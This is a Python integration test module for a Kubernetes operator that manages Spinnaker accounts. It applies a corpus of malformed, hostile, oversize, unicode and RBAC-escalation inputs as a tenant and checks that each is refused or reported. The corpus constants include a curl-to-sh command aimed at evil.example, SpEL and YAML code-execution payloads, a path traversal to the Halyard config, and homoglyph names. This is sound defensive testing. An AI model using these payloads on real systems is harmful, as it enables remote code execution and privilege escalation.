"""A corpus of bad input applied by a real, RBAC-restricted tenant (a ServiceAccount bound to spinop-tenant-edit,
with a TokenRequest token): malformed, hostile (shell, SpEL, YAML, path traversal), oversize (megabyte strings,
thousands of list items, objects at the CRD's limits), unicode (homoglyphs, RTL and zero-width characters) and
escalation attempts (wildcards, escalate/bind/impersonate, RBAC/token/exec rules, system and foreign namespaces,
another tenant's account name, looser guardrails, immutable fields, status writes).

Every case is either refused when applied (the apiserver's schema and size limits, or the admission webhook) or
reported in the account's `status.conditions` with its reason, and leaves nothing behind (no credentials, no remote
ServiceAccount, no namespace); hostile strings that are valid data reach Halyard verbatim and inert. Meanwhile
valid accounts created before, between and after the corpus become Ready, a canary created last too (the operator
never stops handling other objects), the process stays up and its log has no traceback.

The module runs twice: with spinop's admission webhook (policy refused at `kubectl apply`) and without it (the
reconcile is the authority: the same policy reported in status). Long variant: the corpus is applied three times
over (fresh names) with twice as many valid accounts.

Three escalations this suite found are their own tests: adopting an account the admin did not list for the tenant
(AdoptNotAllowed), an accountName that points at a Secret spinop did not make (CredentialsSecretConflict), and
removing spinop's finalizer (refused by deploy/base's ValidatingAdmissionPolicy).
"""

from __future__ import annotations

import base64
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import kubernetes.client as k8s
import pytest
import yaml
from kubernetes.client.rest import ApiException

from spinop import API_VERSION, GROUP, VERSION
from tests.integration import objects
from tests.integration.admission.conftest import wait_webhook_ready
from tests.integration.conftest import CREDENTIALS_NAMESPACE
from tests.integration.kube import Cluster, wait_for
from tests.integration.operator_process import OperatorProcess
from tests.integration.rbac_manifests import store_admin_kubeconfig
from tests.integration.reliability.conftest import SCALE, Scale, SecretHygiene, operator_settings
from tests.integration.reliability.fleet import Fleet, ready, wait_all, wait_gone
from tests.integration.reliability.lifecycle import assert_alive, assert_no_traceback
from tests.integration.reliability.standin import add_unmanaged_account, halconfig_account_names
from tests.integration.reliability.tenant import Answer, Tenant
from tests.integration.spinnaker.standins import HalyardStandinProcess

MANAGED = "spinop-reliability.spinop.io"
MODES = ("webhook", "reconcile-only")
REMOTE = "dev"
PLURAL = "spinnakeraccounts"


@pytest.fixture(scope="module", params=MODES)
def mode(request: pytest.FixtureRequest) -> str:
    return str(request.param)


@pytest.fixture(scope="module")
def operator(
    mode: str,
    halyard: HalyardStandinProcess,
    launch: Callable[..., OperatorProcess],
    mgmt: Cluster,
    operator_kubeconfig: Path,  # installs deploy/base, whose tenant ClusterRoles the tenant is bound to
    admin_token_kubeconfig: Path,
) -> Iterator[OperatorProcess]:
    if mode == "webhook":
        admission = {"enabled": True, "managed": MANAGED, "port": 0, "failure_policy": "Ignore"}
        # The managed webhook configuration needs an admin identity (deploy/base grants no webhook writes).
        process = launch(operator_settings(halyard, admission=admission), kubeconfig=admin_token_kubeconfig)
        wait_webhook_ready(mgmt)
    else:
        process = launch(operator_settings(halyard))
    yield process
    process.stop()
    api = k8s.AdmissionregistrationV1Api(mgmt.api)
    for delete in (api.delete_validating_webhook_configuration, api.delete_mutating_webhook_configuration):
        try:
            delete(MANAGED)
        except ApiException as err:
            if err.status != 404:
                raise


# ----------------------------------------------------------------------------------------------------- the world


@dataclass
class World:
    mgmt: Cluster
    remote: Cluster
    halyard: HalyardStandinProcess
    tenant: Tenant  # tenant A, as itself
    a: str  # tenant A's MGMT namespace
    b: str  # tenant B's
    open: str  # SpinnakerCluster on dev open to both tenants
    closed: str  # SpinnakerCluster on dev open to neither
    legacy: str  # a Spinnaker account someone added with hal
    holder: dict[str, Any]  # tenant B's Ready account with an explicit accountName
    holder2: dict[str, Any]  # tenant B's Ready account with the default accountName
    fleet: Fleet = field(init=False)

    def __post_init__(self) -> None:
        self.fleet = Fleet(self.mgmt, {REMOTE: self.remote}, self.a, {REMOTE: self.open})

    def target(self, suffix: str) -> str:
        # `*` in the pattern is one segment (issue 16 item 1): case names like valid-0 lose their hyphens.
        return f"{self.a}-dev-{suffix.replace('-', '')}"

    def account(self, name: str, target: str | None = None, **spec: Any) -> dict[str, Any]:
        return objects.spinnaker_account(self.a, name, self.open, target or self.target(name), **spec)


ALLOWED_EXTRA_RULES = [
    {"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["get", "list", "watch"]},
    {"apiGroups": ["monitoring.coreos.com"], "resources": ["servicemonitors"], "verbs": ["get", "list", "watch"]},
]


@pytest.fixture()
def world(
    operator: OperatorProcess,
    mgmt: Cluster,
    remotes: dict[str, Cluster],
    halyard: HalyardStandinProcess,
    admin_kubeconfig_secrets: dict[str, str],
    fresh_namespace: Callable[..., str],
) -> Iterator[World]:
    a = fresh_namespace("mgmt", "rt", labels=objects.TENANT_LABEL)
    b = fresh_namespace("mgmt", "rt", labels=objects.TENANT_LABEL)
    suffix = objects.short_id()
    open_, closed = f"rt-{suffix}", f"rc-{suffix}"
    secret = admin_kubeconfig_secrets[REMOTE]
    objects.create(
        mgmt,
        objects.spinnaker_cluster(
            open_,
            secret,
            REMOTE,
            tenancy={
                "namespacePattern": "{tenant}-{environment}-*",
                "allowedProfiles": ["deployer"],
                "allowedExtraRules": ALLOWED_EXTRA_RULES,
            },
        ),
    )
    objects.create(
        mgmt,
        objects.spinnaker_cluster(closed, secret, REMOTE, tenancy={"namespaceSelector": {"matchLabels": {"x": "y"}}}),
    )
    legacy = f"legacy-{suffix}"
    add_unmanaged_account(halyard, legacy, "legacy")
    objects.create(
        mgmt,
        objects.spinnaker_account(b, "holder", open_, f"{b}-dev-holder", accountName=f"{b}-shared"),
    )
    objects.create(mgmt, objects.spinnaker_account(b, "holder2", open_, f"{b}-dev-holder2"))
    holder = objects.wait_condition(mgmt, "SpinnakerAccount", "holder", b, "Ready", timeout=120)
    holder2 = objects.wait_condition(mgmt, "SpinnakerAccount", "holder2", b, "Ready", timeout=120)
    tenant = Tenant(mgmt, a)
    handle = World(mgmt, remotes[REMOTE], halyard, tenant, a, b, open_, closed, legacy, holder, holder2)
    yield handle
    tenant.close()
    for ns in (a, b):
        listed = mgmt.custom.list_namespaced_custom_object(GROUP, VERSION, ns, "spinnakeraccounts")["items"]
        names = [item["metadata"]["name"] for item in listed]
        for name in names:
            objects.delete(mgmt, "SpinnakerAccount", name, ns)
        wait_gone(Fleet(mgmt, {}, ns, {}), names, timeout=180)
    for name in (open_, closed):
        objects.delete(mgmt, "SpinnakerCluster", name)


# ---------------------------------------------------------------------------------------------------- the corpus


@dataclass(frozen=True)
class Refused:
    """Refused by the apiserver itself (schema, CEL, size limits), webhook or not."""

    codes: frozenset[int] = frozenset({422})
    mention: str = ""


@dataclass(frozen=True)
class Policy:
    """A tenancy rule: refused by the webhook (403, reason in the message), else reported as Ready=False/reason."""

    reason: str
    mention: str = ""


@dataclass(frozen=True)
class Reported:
    """Admitted either way; the reconcile reports it as Ready=False with one of these reasons."""

    reasons: tuple[str, ...]
    mention: str = ""
    #: Found only when Spinnaker is asked, after the account's own remote objects and credentials exist: those
    #: are the CR's (labelled with its uid) and go with it; the fleet's teardown checks they do.
    provisioned: bool = False


@dataclass(frozen=True)
class Works:
    """Hostile-looking but valid: becomes Ready (the webhook may refuse it with `webhook_reason`) and `check` holds."""

    webhook_reason: str | None = None


Expectation = Refused | Policy | Reported | Works
Build = Callable[[World, str], dict[str, Any]]
Check = Callable[[World, dict[str, Any]], list[str]]

SPEL = "${T(java.lang.Runtime).getRuntime().exec('id')}"
SHELL = "$(curl -s http://evil.example/x | sh); `id`"
YAML_BOMB = "a: &a [*a, *a, *a, *a]\nb: &b [*a, *a, *a]"
TRAVERSAL = "../../../home/spinnaker/.hal/config"
HOMOGLYPH = "t\u0435am"  # Cyrillic ie
RTL = "ab\u202edc"
ZERO_WIDTH = "\u200b"
HOSTILE_ROLES = [
    SPEL,
    SHELL,
    "{{7*7}}",
    "#{7*7}",
    YAML_BOMB,
    "!!python/object/apply:os.system ['id']",
    "\n- name: injected\n  providerVersion: V2",
    TRAVERSAL,
    "role,admin",
    "--all",
    "admin" + ZERO_WIDTH,
    "\u202eadmin",
    "\u0430dmin",  # Cyrillic a
]
MEGABYTE = "a" * (1 << 20)


def _spec(**spec: Any) -> Build:
    return lambda w, n: w.account(n, **spec)


def _target(target: Callable[[World], str], **spec: Any) -> Build:
    return lambda w, n: w.account(n, target(w), **spec)


def _meta(**meta: Any) -> Build:
    def build(w: World, n: str) -> dict[str, Any]:
        body = w.account(n)
        body["metadata"].update(meta)
        return body

    return build


def _rule(groups: list[str], resources: list[str], verbs: list[str]) -> list[dict[str, Any]]:
    return [{"apiGroups": groups, "resources": resources, "verbs": verbs}]


def _raw(spec: Any) -> Build:
    def build(w: World, n: str) -> dict[str, Any]:
        body = w.account(n)
        body["spec"] = spec
        return body

    return build


def _long_kind(i: int) -> str:
    return f"K{i:03d}" + "x" * 200 + ".example.com"


def _at_the_limits(w: World, n: str) -> dict[str, Any]:
    """Every list at its maxItems and every string near its maxLength, within what the cluster allows."""
    roles = [f"r{i:02d}-" + "x" * 249 for i in range(64)]
    return w.account(
        n,
        permissions={"READ": roles, "WRITE": roles, "EXECUTE": roles},
        kinds=[_long_kind(i) for i in range(64)],
        customResources=[{"kubernetesKind": _long_kind(i), "versioned": True} for i in range(32)],
        extraRules=[ALLOWED_EXTRA_RULES[i % 2] for i in range(16)],
        cacheThreads=32,
    )


def _halconfig_roles(w: World, obj: dict[str, Any]) -> list[str]:
    name = obj["status"]["spinnakerAccountName"]
    stored = w.halyard.accounts().get(name) or {}
    expected = set(obj["spec"]["permissions"]["READ"])
    got = set((stored.get("permissions") or {}).get("READ") or [])
    problems = [] if got == expected else [f"Halyard has READ roles {sorted(got)[:5]}…, not what was asked"]
    names = halconfig_account_names(w.halyard)
    if len(names) != len(set(names)) or any("injected" in n for n in names):
        problems.append(f"the halconfig's accounts changed shape: {names}")
    return problems


def _namespace_enforces_restricted(w: World, obj: dict[str, Any]) -> list[str]:
    labels = w.remote.core.read_namespace(obj["spec"]["namespace"]).metadata.labels or {}
    level = labels.get("pod-security.kubernetes.io/enforce")
    return [] if level == "restricted" else [f"namespace enforces {level!r}, not the cluster's 'restricted'"]


def _zero_width_lookalike(w: World, n: str) -> dict[str, Any]:
    """Tenant B's account name with a zero-width space: looks the same in every UI."""
    return w.account(n, accountName=w.holder["status"]["spinnakerAccountName"] + ZERO_WIDTH)


def _cluster(cluster: Callable[[World], str]) -> Build:
    def build(w: World, n: str) -> dict[str, Any]:
        body = w.account(n)
        body["spec"]["cluster"] = cluster(w)
        return body

    return build


def _forged_progress(w: World, n: str) -> dict[str, Any]:
    """kopf's own bookkeeping forged: 'the reconcile already succeeded', for an account targeting kube-system."""
    body = w.account(n, "kube-system")
    done = {"started": "2020-01-01T00:00:00.000000+00:00", "stopped": "2020-01-01T00:00:01.000000+00:00"}
    body["metadata"]["annotations"] = {
        "kopf.spinop.io/reconcile": json.dumps({**done, "purpose": "create", "retries": 1, "success": True}),
        "kopf.spinop.io/last-handled-configuration": json.dumps({"spec": body["spec"]}),
    }
    return body


@dataclass(frozen=True)
class Case:
    id: str
    build: Build
    expect: Expectation
    strict: bool = False
    check: Check | None = None
    #: False when the case claims something only one object can hold (a Spinnaker account name): repeated in a
    #: later round of the long variant, it is rightly refused as AccountNameTaken, which is not what it tests.
    repeatable: bool = True


CORPUS: tuple[Case, ...] = (
    # malformed
    Case("no-cluster", _raw({"namespace": "x"}), Refused(mention="spec.cluster")),
    Case("no-spec", lambda w, n: {**w.account(n), "spec": None}, Refused(frozenset({400, 422}))),
    Case("spec-is-a-string", _raw("cluster: x"), Refused(frozenset({400, 422}))),
    Case("wrong-types", _spec(profile=7, cacheThreads="many"), Refused(frozenset({400, 422}))),
    Case("unknown-profile", _spec(profile="cluster-admin"), Refused(mention="spec.profile")),
    Case("unknown-field", _spec(clusterAdmin=True), Refused(frozenset({400, 422}), "clusterAdmin"), strict=True),
    Case("cache-threads-negative", _spec(cacheThreads=-1), Refused(mention="spec.cacheThreads")),
    Case("cache-threads-huge", _spec(cacheThreads=2**62), Refused(mention="spec.cacheThreads")),
    Case("kinds-and-omit-kinds", _spec(kinds=["deployment"], omitKinds=["secret"]), Refused(mention="omitKinds")),
    Case("namespace-uppercase", _target(lambda w: w.target("UP")), Refused(mention="spec.namespace")),
    Case("namespace-nul", _target(lambda w: w.target("a\u0000b")), Refused(mention="spec.namespace")),
    Case("duplicate-kinds", _spec(kinds=["deployment", "deployment"]), Refused(frozenset({400, 422}))),
    # hostile strings
    Case("shell-namespace", _target(lambda w: SHELL), Refused(mention="spec.namespace")),
    Case("spel-account-name", _spec(accountName=SPEL), Refused(mention="spec.accountName")),
    Case("yaml-account-name", _spec(accountName=YAML_BOMB), Refused(mention="spec.accountName")),
    Case("traversal-account-name", _spec(accountName=TRAVERSAL), Refused(mention="spec.accountName")),
    Case("traversal-namespace", _target(lambda w: ".."), Refused(mention="spec.namespace")),
    Case("traversal-name", lambda w, n: w.account("..%2F..%2Fetc"), Refused(frozenset({400, 422}))),
    Case("spel-custom-kind", _spec(customResources=[{"kubernetesKind": SPEL}]), Refused(frozenset({422}))),
    Case("hostile-roles", _spec(permissions={"READ": HOSTILE_ROLES}), Works(), check=_halconfig_roles),
    Case(
        "hostile-annotations",
        _meta(annotations={"note": f"{SPEL} {SHELL} {YAML_BOMB} {TRAVERSAL}", "spinop.io/owner": "kube-system/x"}),
        Works(),
    ),
    # oversize
    Case("account-name-megabyte", _spec(accountName=MEGABYTE), Refused(mention="spec.accountName")),
    Case("role-megabyte", _spec(permissions={"READ": [MEGABYTE]}), Refused(mention="READ")),
    Case("annotation-over-256k", _meta(annotations={"big": "x" * 300_000}), Refused(mention="annotations")),
    Case("body-over-3mb", _meta(annotations={"big": "x" * 3_500_000}), Refused(frozenset({413, 422}))),
    Case("roles-thousands", _spec(permissions={"READ": [f"r{i}" for i in range(5000)]}), Refused(mention="READ")),
    Case("kinds-thousands", _spec(kinds=[f"K{i}" for i in range(3000)]), Refused(mention="spec.kinds")),
    Case(
        "extra-rules-thousands",
        _spec(extraRules=_rule(["apps"], ["deployments"], ["get"]) * 2000),
        Refused(mention="spec.extraRules"),
    ),
    Case("at-the-crd-limits", _at_the_limits, Works()),
    Case("rotate-annotation-120k", _meta(annotations={"spinop.io/rotate-credentials": "r" * 120_000}), Works()),
    # unicode
    Case("homoglyph-name", lambda w, n: w.account(HOMOGLYPH), Refused(frozenset({400, 422}))),
    Case("homoglyph-namespace", _target(lambda w: w.target(HOMOGLYPH)), Refused(mention="spec.namespace")),
    Case("rtl-account-name", _spec(accountName=RTL), Refused(mention="spec.accountName")),
    Case("zero-width-account-name", _zero_width_lookalike, Refused(mention="spec.accountName")),
    Case("unicode-label-value", _meta(labels={"team": HOMOGLYPH}), Refused(mention="labels")),
    Case("zero-width-label-key", _meta(labels={"team" + ZERO_WIDTH: "a"}), Refused(mention="labels")),
    Case("unicode-annotation", _meta(annotations={"note": f"{RTL} {ZERO_WIDTH} {HOMOGLYPH} \U0001f600"}), Works()),
    # escalation
    Case("wildcard-verb", _spec(extraRules=_rule(["apps"], ["deployments"], ["*"])), Refused(mention="verbs")),
    Case("wildcard-resource", _spec(extraRules=_rule(["apps"], ["*"], ["get"])), Refused(mention="resources")),
    Case("wildcard-group", _spec(extraRules=_rule(["*"], ["deployments"], ["get"])), Refused(mention="apiGroups")),
    Case("escalate", _spec(extraRules=_rule(["rbac.authorization.k8s.io"], ["roles"], ["escalate"])), Refused()),
    Case("bind", _spec(extraRules=_rule(["rbac.authorization.k8s.io"], ["clusterroles"], ["bind"])), Refused()),
    Case("impersonate", _spec(extraRules=_rule([""], ["serviceaccounts"], ["impersonate"])), Refused()),
    Case("read-secrets", _spec(extraRules=_rule([""], ["secrets"], ["get", "list"])), Policy("ExtraRulesNotAllowed")),
    Case(
        "create-rolebindings",
        _spec(extraRules=_rule(["rbac.authorization.k8s.io"], ["rolebindings"], ["create"])),
        Policy("ExtraRulesNotAllowed"),
    ),
    Case(
        "mint-tokens",
        _spec(extraRules=_rule([""], ["serviceaccounts/token"], ["create"])),
        Policy("ExtraRulesNotAllowed"),
    ),
    Case("exec-into-pods", _spec(extraRules=_rule([""], ["pods/exec"], ["create"])), Policy("ExtraRulesNotAllowed")),
    Case("kube-system", _target(lambda w: "kube-system"), Policy("NamespaceNotAllowed", "spec.namespace")),
    Case("kube-anything", _target(lambda w: "kube-spinop"), Policy("NamespaceNotAllowed", "spec.namespace")),
    Case("default-namespace", _target(lambda w: "default"), Policy("NamespaceNotAllowed", "spec.namespace")),
    Case("credentials-namespace", _target(lambda w: "devops"), Policy("NamespaceNotAllowed", "spec.namespace")),
    Case("operator-namespace", _target(lambda w: "spinop-system"), Policy("NamespaceNotAllowed", "spec.namespace")),
    Case("other-tenant-namespace", _target(lambda w: f"{w.b}-dev-x"), Policy("NamespaceNotAllowed")),
    Case("other-tenant-live-namespace", _target(lambda w: f"{w.b}-dev-holder"), Policy("NamespaceNotAllowed")),
    # Names carry their tenant (issue 16 item 4): another tenant's names are refused before they are looked up.
    Case(
        "other-tenant-account-name",
        lambda w, n: w.account(n, accountName=w.holder["status"]["spinnakerAccountName"]),
        Policy("AccountNameNotAllowed", "spec.accountName"),
    ),
    Case(
        "other-tenant-default-account-name",
        lambda w, n: w.account(n, accountName=w.holder2["status"]["spinnakerAccountName"]),
        Policy("AccountNameNotAllowed", "spec.accountName"),
    ),
    Case(
        "unmanaged-spinnaker-account",
        lambda w, n: w.account(n, accountName=w.legacy),
        Policy("AccountNameNotAllowed", "spec.accountName"),
    ),
    Case("closed-cluster", _cluster(lambda w: w.closed), Policy("TenantNotAllowed")),
    Case("no-such-cluster", _cluster(lambda w: "no-such-cluster"), Reported(("ClusterNotFound",), "no-such-cluster")),
    Case("forged-kopf-progress", _forged_progress, Policy("NamespaceNotAllowed", "spec.namespace")),
    Case("profile-not-allowed", _spec(profile="readonly"), Policy("ProfileNotAllowed", "spec.profile")),
    Case(
        "privileged-guardrails",
        _spec(guardrails={"podSecurity": {"enforce": "privileged"}}),
        Works(webhook_reason="GuardrailsLooserThanCluster"),
        check=_namespace_enforces_restricted,
    ),
)


# ------------------------------------------------------------------------------------------------------- checking


def _account_name(body: dict[str, Any]) -> str | None:
    spec = body.get("spec")
    if not isinstance(spec, dict) or not isinstance(spec.get("cluster"), str):
        return None
    return str(spec.get("accountName") or f"{spec['cluster']}-{spec.get('namespace')}")


def _left_nothing(w: World, body: dict[str, Any], holders: dict[str, str]) -> list[str]:
    """A refused account has no credentials Secret and no remote ServiceAccount (another holder's stay its own)."""
    name = _account_name(body)
    if name is None:
        return []
    problems = []
    try:
        secret = w.mgmt.core.read_namespaced_secret(f"spinop-{name}", CREDENTIALS_NAMESPACE)
    except ApiException as err:
        if err.status != 404:
            raise
    else:
        owner = (secret.metadata.labels or {}).get("spinop.io/account-uid")
        if owner != holders.get(name):
            problems.append(f"a credentials Secret spinop-{name} exists for a refused account (owner {owner})")
    namespace = body["spec"].get("namespace")
    if isinstance(namespace, str) and namespace and name not in holders:
        try:
            w.remote.core.read_namespaced_service_account(f"spinop-{name}", namespace)
            problems.append(f"a ServiceAccount spinop-{name} exists in {namespace} for a refused account")
        except ApiException as err:
            if err.status not in (404, 422):
                raise
    return problems


def judge_answer(case: Case, answer: Answer, mode: str) -> list[str]:
    expect = case.expect
    if isinstance(expect, Refused):
        if answer.accepted or answer.code not in expect.codes:
            return [f"{case.id}: expected the apiserver to refuse it ({sorted(expect.codes)}), got {answer}"]
        if expect.mention and expect.mention not in answer.message:
            return [f"{case.id}: the refusal does not name {expect.mention!r}: {answer.message[:300]}"]
        return []
    webhook_reason = expect.reason if isinstance(expect, Policy) else getattr(expect, "webhook_reason", None)
    if mode == "webhook" and webhook_reason:
        if answer.accepted or answer.code != 403 or webhook_reason not in answer.message:
            return [f"{case.id}: expected the webhook to refuse it with {webhook_reason}, got {answer}"]
        return []
    return [] if answer.accepted else [f"{case.id}: expected it to be admitted, got {answer}"]


def _reported_reasons(case: Case, mode: str) -> tuple[str, ...] | None:
    """The reasons the reconcile must report for an admitted case; None: it must become Ready."""
    expect = case.expect
    if isinstance(expect, Policy):
        return (expect.reason,)
    if isinstance(expect, Reported):
        return expect.reasons
    return None


# -------------------------------------------------------------------------------------------------------- tests


@pytest.mark.parametrize("scale", [SCALE], ids=[SCALE.name])
@pytest.mark.timeout(SCALE.pick(600, 1800))
def test_bad_input_corpus_is_refused_or_reported_and_valid_accounts_still_become_ready(
    scale: Scale, mode: str, operator: OperatorProcess, world: World, secret_hygiene: SecretHygiene
) -> None:
    rounds = scale.pick(1, 3)
    valid = [f"valid-{i}" for i in range(scale.pick(4, 8))]
    cases = [
        (f"{case.id}-{r}" if rounds > 1 else case.id, case)
        for r in range(rounds)
        for case in CORPUS
        if r == 0 or case.repeatable
    ]
    holders = {
        world.holder["status"]["spinnakerAccountName"]: world.holder["metadata"]["uid"],
        world.holder2["status"]["spinnakerAccountName"]: world.holder2["metadata"]["uid"],
    }
    problems: list[str] = []
    answers: dict[str, tuple[Case, Answer, dict[str, Any]]] = {}
    spread = max(1, len(cases) // (len(valid) - 1))
    for index, (key, case) in enumerate(cases):
        if index % spread == 0 and index // spread < len(valid) - 1:
            name = valid[index // spread]
            answer = world.tenant.create(world.account(name, deletionPolicy="Delete"))
            assert answer.accepted, f"a valid account was refused: {answer}"
        body = case.build(world, f"x-{key}"[:63].rstrip("-"))
        answer = world.tenant.create(body, strict=case.strict)
        answers[key] = (case, answer, body)
        problems += judge_answer(case, answer, mode)
        if not answer.accepted and isinstance(body.get("metadata", {}).get("name"), str):
            try:
                stored = objects.get(world.mgmt, "SpinnakerAccount", body["metadata"]["name"], world.a)
            except ApiException:
                stored = None
            if stored is not None:
                problems.append(f"{key}: refused, yet stored")
    canary = valid[-1]
    assert world.tenant.create(world.account(canary, deletionPolicy="Delete")).accepted

    timeout = scale.seconds(180, 600)
    admitted = {key: (case, answer.obj) for key, (case, answer, _) in answers.items() if answer.accepted}
    wait_all(world.fleet, valid, "Ready", "True", timeout=timeout)
    by_reasons: dict[tuple[str, ...], list[str]] = {}
    for key, (case, obj) in admitted.items():
        reasons = _reported_reasons(case, mode)
        by_reasons.setdefault(reasons or ("Ready",), []).append(obj["metadata"]["name"] if obj else key)
    for reasons, names in by_reasons.items():
        if reasons == ("Ready",):
            wait_all(world.fleet, names, "Ready", "True", timeout=timeout)
        else:
            wait_all(world.fleet, names, "Ready", "False", reasons=reasons, timeout=timeout)

    listed = world.fleet.listed()
    for key, (case, answer, body) in answers.items():
        if not answer.accepted:
            continue
        obj = listed[answer.obj["metadata"]["name"]] if answer.obj else {}
        if _reported_reasons(case, mode) is None:
            problems += [f"{key}: {p}" for p in (case.check(world, obj) if case.check else [])]
            continue
        message = (objects.condition(obj, "Ready") or {}).get("message") or ""
        mention = getattr(case.expect, "mention", "")
        if mention and mention not in message:
            problems.append(f"{key}: the condition does not name {mention!r}: {message[:300]}")
        if getattr(case.expect, "provisioned", False):
            owned = {str(_account_name(body)): obj["metadata"]["uid"]}
            problems += [f"{key}: {p}" for p in _left_nothing(world, body, {**holders, **owned})]
        else:
            problems += [f"{key}: {p}" for p in _left_nothing(world, body, holders)]
    # The other tenant's accounts are untouched, and so is the account someone added with hal.
    for holder in (world.holder, world.holder2):
        now = objects.get(world.mgmt, "SpinnakerAccount", holder["metadata"]["name"], world.b)
        if not ready(now):
            problems.append(f"tenant B's {holder['metadata']['name']} is no longer Ready")
    legacy = world.halyard.accounts().get(world.legacy) or {}
    if legacy.get("namespaces") != ["legacy"]:
        problems.append(f"the unmanaged Spinnaker account {world.legacy} was changed: {legacy}")
    assert_alive(operator)
    assert not problems, f"mode {mode}:\n" + "\n".join(problems)
    assert_no_traceback(operator)
    secret_hygiene.check()


def test_tenant_cannot_reach_past_its_rbac(mode: str, operator: OperatorProcess, world: World) -> None:
    """The tenant's identity itself: no status writes, no other namespace, no SpinnakerClusters, no Secrets."""
    tenant = world.tenant
    mine = world.account("mine", deletionPolicy="Delete")
    assert tenant.create(mine).accepted
    attempts = {
        "write its own status": tenant.patch(
            "mine",
            {"status": {"conditions": [{"type": "Ready", "status": "True", "reason": "Forged", "message": "x"}]}},
            status=True,
        ),
        "create in another tenant's namespace": tenant.create(
            objects.spinnaker_account(world.b, "intruder", world.open, f"{world.b}-dev-intruder"), namespace=world.b
        ),
        "delete another tenant's account": tenant.attempt(
            tenant.custom.delete_namespaced_custom_object, GROUP, VERSION, world.b, "spinnakeraccounts", "holder"
        ),
        "create a SpinnakerCluster": tenant.attempt(
            tenant.custom.create_cluster_custom_object,
            GROUP,
            VERSION,
            "spinnakerclusters",
            {
                "apiVersion": API_VERSION,
                "kind": "SpinnakerCluster",
                "metadata": {"name": f"evil-{objects.short_id()}"},
                "spec": {"kubeconfigSecretRef": {"name": "x"}, "environment": "dev", "tenancy": {}},
            },
        ),
        "read credentials": tenant.attempt(
            tenant.core.read_namespaced_secret, f"spinop-{world.holder['status']['spinnakerAccountName']}", "devops"
        ),
        "list Secrets in its own namespace": tenant.attempt(tenant.core.list_namespaced_secret, world.a),
    }
    allowed = {what: str(answer) for what, answer in attempts.items() if answer.accepted or answer.code != 403}
    assert not allowed, allowed
    objects.wait_condition(world.mgmt, "SpinnakerAccount", "mine", world.a, "Ready", timeout=120)


def test_updates_cannot_escalate_a_ready_account(mode: str, operator: OperatorProcess, world: World) -> None:
    """Immutable fields stay immutable; a widening of a Ready account's rules is refused or reported, and the
    remote Role is never widened meanwhile; taking the widening back makes the account Ready again."""
    tenant, name = world.tenant, "upd"
    assert tenant.create(world.account(name, deletionPolicy="Delete")).accepted
    before = objects.wait_condition(world.mgmt, "SpinnakerAccount", name, world.a, "Ready", timeout=120)
    for field_, value in (("namespace", "kube-system"), ("cluster", world.closed), ("accountName", "hijack")):
        answer = tenant.patch(name, {"spec": {field_: value}})
        assert not answer.accepted and answer.code == 422 and "immutable" in answer.message, (field_, str(answer))
    role_name = f"spinop-{before['status']['spinnakerAccountName']}"
    role = world.remote.rbac.read_namespaced_role(role_name, world.target(name))
    rules_before = [r.to_dict() for r in role.rules or []]
    # Beyond the deployer profile (which already manages Secrets in its own namespace) and not allowed here.
    widen = {"spec": {"extraRules": _rule(["rbac.authorization.k8s.io"], ["rolebindings"], ["get", "list"])}}
    answer = tenant.patch(name, widen)
    if mode == "webhook":
        assert not answer.accepted and answer.code == 403 and "ExtraRulesNotAllowed" in answer.message, str(answer)
    else:
        assert answer.accepted, str(answer)
        objects.wait_condition(
            world.mgmt, "SpinnakerAccount", name, world.a, "Ready", "False", reason="ExtraRulesNotAllowed"
        )
        rules = world.remote.rbac.read_namespaced_role(role_name, world.target(name)).rules or []
        assert [r.to_dict() for r in rules] == rules_before, "the remote Role was changed"
        assert tenant.patch(name, {"spec": {"extraRules": None}}).accepted
    objects.wait_condition(world.mgmt, "SpinnakerAccount", name, world.a, "Ready", timeout=120)


def test_tenant_cannot_adopt_an_unmanaged_spinnaker_account(mode: str, operator: OperatorProcess, world: World) -> None:
    original = world.halyard.accounts()[world.legacy]
    answer = world.tenant.create(world.account("grab", accountName=world.legacy, adopt=True, deletionPolicy="Delete"))
    if answer.accepted:

        def settled() -> dict[str, Any] | None:
            obj = objects.get(world.mgmt, "SpinnakerAccount", "grab", world.a)
            cond = objects.condition(obj, "Ready") or {}
            return obj if cond.get("status") == "True" or cond.get("reason") not in (None, "Pending") else None

        wait_for(settled, timeout=120, what="the adopting account settled")
    live = world.halyard.accounts()[world.legacy]
    assert live.get("namespaces") == original.get("namespaces"), (
        f"tenant {world.a} took over {world.legacy}: it now deploys to {live.get('namespaces')}"
    )


def test_tenant_cannot_overwrite_a_secret_it_does_not_own_in_the_credentials_namespace(
    mode: str, operator: OperatorProcess, world: World, admin_kubeconfig_secrets: dict[str, str]
) -> None:
    # A platform admin's SpinnakerCluster named spinop-<x>, with its Secret named as docs/install.md says.
    suffix = objects.short_id()
    # Named after the tenant, so that an account name carrying the tenant (issue 16 item 4) can still aim at it.
    cluster = f"spinop-{world.a}-{suffix}"
    admin = world.mgmt.core.read_namespaced_secret(admin_kubeconfig_secrets[REMOTE], CREDENTIALS_NAMESPACE)
    kubeconfig = yaml.safe_load(base64.b64decode(admin.data["kubeconfig"]))
    secret = store_admin_kubeconfig(world.mgmt, kubeconfig, name=f"{cluster}-admin-kubeconfig")
    objects.create(world.mgmt, objects.spinnaker_cluster(cluster, secret, REMOTE))
    try:
        before = world.mgmt.core.read_namespaced_secret(secret, CREDENTIALS_NAMESPACE).data
        answer = world.tenant.create(
            world.account("clash", accountName=f"{world.a}-{suffix}-admin-kubeconfig", deletionPolicy="Delete")
        )
        if answer.accepted:

            def settled() -> bool:
                obj = objects.get(world.mgmt, "SpinnakerAccount", "clash", world.a)
                return (objects.condition(obj, "CredentialsIssued") or {}).get("status") in ("True", "False")

            wait_for(settled, timeout=120, what="the clashing account's credentials step")
        after = world.mgmt.core.read_namespaced_secret(secret, CREDENTIALS_NAMESPACE).data
        assert after == before, (
            f"Secret {CREDENTIALS_NAMESPACE}/{secret} (cluster {cluster}'s admin kubeconfig) was overwritten"
        )
    finally:
        objects.delete(world.mgmt, "SpinnakerAccount", "clash", world.a)
        objects.wait_gone(world.mgmt, "SpinnakerAccount", "clash", world.a, timeout=120)
        objects.delete(world.mgmt, "SpinnakerCluster", cluster)
        world.mgmt.core.delete_namespaced_secret(secret, CREDENTIALS_NAMESPACE)


def test_a_tenant_cannot_remove_the_finalizer_so_deletion_leaves_no_orphans(
    mode: str, operator: OperatorProcess, world: World
) -> None:
    """deploy/base's ValidatingAdmissionPolicy (the API server's own, no webhook involved: both modes) refuses a
